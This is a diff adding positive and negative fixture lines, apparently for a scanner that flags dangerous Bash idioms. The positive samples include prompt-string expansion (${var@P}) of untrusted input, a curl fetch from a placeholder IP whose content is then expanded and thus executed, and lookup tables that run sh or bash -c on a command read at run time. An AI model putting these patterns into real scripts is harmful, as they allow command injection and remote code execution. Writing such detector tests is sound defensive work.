@@ -383,3 +383,21 @@ cat > deploy/app.service <<'UNIT'
 [Service]
 ExecStart=/usr/bin/app
 UNIT
+#@ pos a value read at run time expanded as a prompt string
+read -r banner < banner.txt; echo "${banner@P}"
+#@ pos a downloaded template expanded as a prompt string
+t=$(curl -s https://203.0.113.9/p); printf '%s\n' "${t@P}"
+#@ neg the user's own prompt expanded
+echo "${PS1@P}"
+#@ neg a constant prompt with a timestamp
+p='[$(date +%T)] \u@\h> '; echo "${p@P}"
+#@ pos a tool table filled in a loop over a constant string, dispatched by a key read at run time
+declare -A T=(); for kv in ls=ls run=sh; do T[${kv%%=*}]=${kv#*=}; done
+read -r k c; "${T[$k]}" -c "$c"
+#@ pos programs appended to a list in a loop, one picked by an index built at run time
+L=(); for p in /usr/bin/env /bin/bash; do L+=("${p##*/}"); done; "${L[$i]}" -c "$1"
+#@ neg a table of test runners dispatched by key with a fixed argument
+declare -A R=(); for kv in py=pytest js=jest; do R[${kv%%=*}]=${kv#*=}; done
+"${R[$kind]}" -q
+#@ neg read -a with its option quoted, from a here-string, run with a fixed argument
+read -r''a cmd <<< "${RUNNERS[$kind]}"; "${cmd[@]}" -q
